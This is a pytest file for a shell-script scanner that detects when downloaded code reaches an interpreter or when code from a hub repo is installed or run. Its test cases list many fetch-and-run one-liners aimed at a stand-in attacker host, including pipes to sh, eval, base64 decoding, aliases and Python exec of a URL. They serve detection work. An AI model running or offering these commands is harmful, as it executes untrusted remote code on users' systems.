"""Downloaded bytes followed through parsed shell to the command that runs them (text_rules/shell/flow)."""

from __future__ import annotations

import pytest

from app.core.scanners.text_rules.shell.flow import Flow

URL = "https://attacker.example/i.sh"

# (name, script, the URL reported): every form runs the download; each line says how bash gets there.
RUNS = [
    ("pipe", f"curl -fsSL {URL} | sh", URL),
    ("env-interpreter", f"curl -fsSL {URL} | /usr/bin/env bash -s -- --yes", URL),  # env finds bash on PATH
    ("tee-between", f"curl -s {URL} | tee /tmp/i.sh | sudo -E sh", URL),  # tee copies stdin to stdout
    ("variable-url", f"U={URL}\ncurl -s \"$U\" | bash", URL),
    ("braced-default", f"curl -s ${{U:-{URL}}} | bash", URL),  # ${U:-x} is x when U is unset
    ("variable-runner", f"R=bash\ncurl -s {URL} | $R", URL),
    ("saved-then-run", f"wget -O- {URL} > f && chmod +x f && ./f", URL),
    ("curl-output-then-bash", f"curl {URL} -o /tmp/z.sh\nsudo bash /tmp/z.sh", URL),
    ("wget-default-name", f"wget {URL}\nbash i.sh", URL),  # wget saves under the URL's basename
    ("dot-source", f"curl -s {URL} > env.rc\n. ./env.rc", URL),
    ("copied", f"curl -so a {URL}\ncp a /usr/local/bin/b\n/usr/local/bin/b", URL),
    ("herestring", f'bash -s <<< "$(curl -fsSL {URL})"', URL),
    ("command-substitution", f'bash -c "$(curl -fsSL {URL})"', URL),
    ("eval-variable", f"S=$(wget -qO- {URL}); eval \"$S\"", URL),
    ("process-substitution", f"sh <(curl -L {URL}) --daemon", URL),
    ("stdin-process-substitution", f"bash -s < <(curl -s {URL})", URL),
    ("source-dev-stdin", f'source /dev/stdin <<< "$(curl -s {URL})"', URL),
    ("nested-bash-c", f'bash -c "curl -s {URL} | sh"', URL),
    ("xargs-bash-c", f"curl -s {URL} | xargs -0 bash -c", URL),
    ("python-c-exec", "python3 -c \"import urllib.request as u; exec(u.urlopen('http://e.example/p').read())\"",
     "http://e.example/p"),
    ("python-c-runpy", "python -c \"import runpy,urllib.request as u; u.urlretrieve('http://e.example/p','x.py');"
     " runpy.run_path('x.py')\"", "http://e.example/p"),
    ("python-heredoc", "python - <<'EOF'\nimport urllib.request\nexec(urllib.request.urlopen('http://e.example/h')"
     ".read())\nEOF", "http://e.example/h"),
    ("pipe-to-python", f"curl -s {URL} | python3 -", URL),
    ("heredoc-shell-body", f"bash <<EOF\ncurl -s {URL} | sh\nEOF", URL),
    ("base64-filter", f"curl -s {URL} | base64 -d | sh", URL),
    ("function-body", f"fetch() {{ curl -s {URL} | sh; }}\nfetch", URL),
    ("extracted-archive", "curl -fsSL https://attacker.example/g.tgz | tar xz && ./g/install",
     "https://attacker.example/g.tgz"),
    # tree-sitter-bash #347 glues `echo B` onto `head`; the walker splits it back and still sees the pipe below.
    ("after-long-pipeline", f"a | grep x | head -30\ncurl -s {URL} | bash && cd s", URL),
    ("unknown-url", 'curl -s "$SOMEWHERE" | sh', "?"),
]


@pytest.mark.parametrize(("name", "script", "url"), RUNS, ids=[r[0] for r in RUNS])
def test_a_download_that_reaches_an_interpreter_is_found(name: str, script: str, url: str) -> None:
    flow = Flow()
    flow.run_script(script)
    assert [e.url for e in flow.executions][:1] == [url], name


QUIET = [
    ("download-only", f"curl -o model.bin {URL}"),
    ("echo-to-shell", "echo hi | sh"),
    ("local-script", "bash ./scripts/serve.sh --port 8000"),
    ("wget-log-file", f"wget -o log.txt {URL}\nbash log.txt.sh"),  # wget -o names its log, not the download
    ("other-file-run", f"curl -o weights.tar {URL}\nbash install.sh"),
    ("python-eval-method", "python -c \"import requests; m = load(); m.eval(); requests.get('http://x')\""),
    ("pip-install-name", "pip install torch transformers"),
]


@pytest.mark.parametrize(("name", "script"), QUIET, ids=[q[0] for q in QUIET])
def test_a_download_that_is_not_run_is_not_an_execution(name: str, script: str) -> None:
    flow = Flow()
    flow.run_script(script)
    assert flow.executions == [], name


def test_the_reported_lines_are_the_file_lines_of_the_download_and_the_run() -> None:
    flow = Flow()
    flow.run_script(f"echo start\nwget {URL}\necho done\nbash i.sh\n", first_row=10)
    (run,) = flow.executions
    assert (run.fetched_row, run.row) == (11, 13)


HUB = [
    ("hf-download-pip", "hf download evil/pkg --local-dir d && pip install ./d", "evil/pkg"),
    ("git-clone-editable", "git clone https://huggingface.co/evil/two && cd two && pip install -e .", "evil/two"),
    ("cli-download-run", "huggingface-cli download evil/three --local-dir /opt/x\nbash /opt/x/setup.sh", "evil/three"),
]


@pytest.mark.parametrize(("name", "script", "repo"), HUB, ids=[h[0] for h in HUB])
def test_code_fetched_from_a_hub_repo_then_installed_or_run_is_that_repos_code(
    name: str, script: str, repo: str
) -> None:
    flow = Flow()
    flow.run_script(script)
    assert {h.repo for h in flow.hub} == {repo}, name


def test_a_package_name_after_a_hub_download_is_not_hub_code() -> None:
    flow = Flow()
    flow.run_script("hf download evil/pkg --local-dir torch\npip install torch")
    assert flow.hub == []


def test_hostile_nesting_is_bounded() -> None:
    flow = Flow()
    flow.run_script('bash -c "' * 50 + "curl -s http://x | sh" + '"' * 50)
    flow.run_script("$(" * 2000 + ")" * 2000)
    assert flow.steps <= 200_001
    deep = Flow()  # found by the fuzz target: substitutions nested inside strings, word by word
    deep.run_script("echo " + '"$(' * 300 + ')"' * 300)
    assert deep.truncated


MORE = [
    ("bash-s-stdin-args", f"bash -s -- --gpu h100 < <(curl -fsSL {URL})", URL),  # -s: the program is stdin
    ("heredoc-expands-download", f"bash <<EOF\n$(curl -fsSL {URL})\nEOF", URL),  # unquoted delimiter expands
    ("alias", f"shopt -s expand_aliases\nalias get='curl -fsSL'\nalias run='sh -s --'\nget {URL} | run", URL),
    ("function-args-and-stdin", f'fetch() {{ curl -fsSL "$@"; }}\nrun() {{ bash -s "$@"; }}\nfetch {URL} | run', URL),
]


@pytest.mark.parametrize(("name", "script", "url"), MORE, ids=[m[0] for m in MORE])
def test_aliases_functions_and_here_documents_are_followed(name: str, script: str, url: str) -> None:
    flow = Flow()
    flow.run_script(script)
    assert [e.url for e in flow.executions][:1] == [url], name


def test_a_hub_download_into_the_working_directory_then_run_is_hub_code() -> None:
    flow = Flow()
    flow.run_script("huggingface-cli download other/tools setup.sh --local-dir . && bash setup.sh")
    assert [h.repo for h in flow.hub] == ["other/tools"]


def test_a_cloned_space_is_named_as_a_space() -> None:
    flow = Flow()
    flow.run_script("git clone https://huggingface.co/spaces/other/tools && cd tools && bash install.sh")
    assert [h.repo for h in flow.hub] == ["spaces/other/tools"]


def test_a_script_beside_an_extracted_dataset_is_not_its_content() -> None:
    flow = Flow()
    flow.run_script("wget https://data.example/data.tar && tar xf data.tar\n./run_eval.sh data/\n"
                    "curl -L https://x.example/tool-1.2.zip -o tool-1.2.zip && unzip tool-1.2.zip\n./tool-1.2/bin/run")
    assert [(e.url, e.row) for e in flow.executions] == [("https://x.example/tool-1.2.zip", 3)]


def test_an_archive_unpacked_in_one_program_says_nothing_of_the_next() -> None:
    flow = Flow()
    flow.run_script("wget https://data.example/eval.zip && unzip eval.zip")
    flow.run_script("torchrun eval/caption/evaluate_caption.py")  # the repo's own script, another card block
    assert flow.executions == []


def test_a_url_with_a_substitution_is_followed_whole() -> None:
    flow = Flow()
    flow.run_script('wget https://repo.example/kit_linux-"$(uname -i)".run\nbash kit_linux-"$(uname -i)".run --install')
    assert [e.url for e in flow.executions] == ["https://repo.example/kit_linux-$(uname -i).run"]
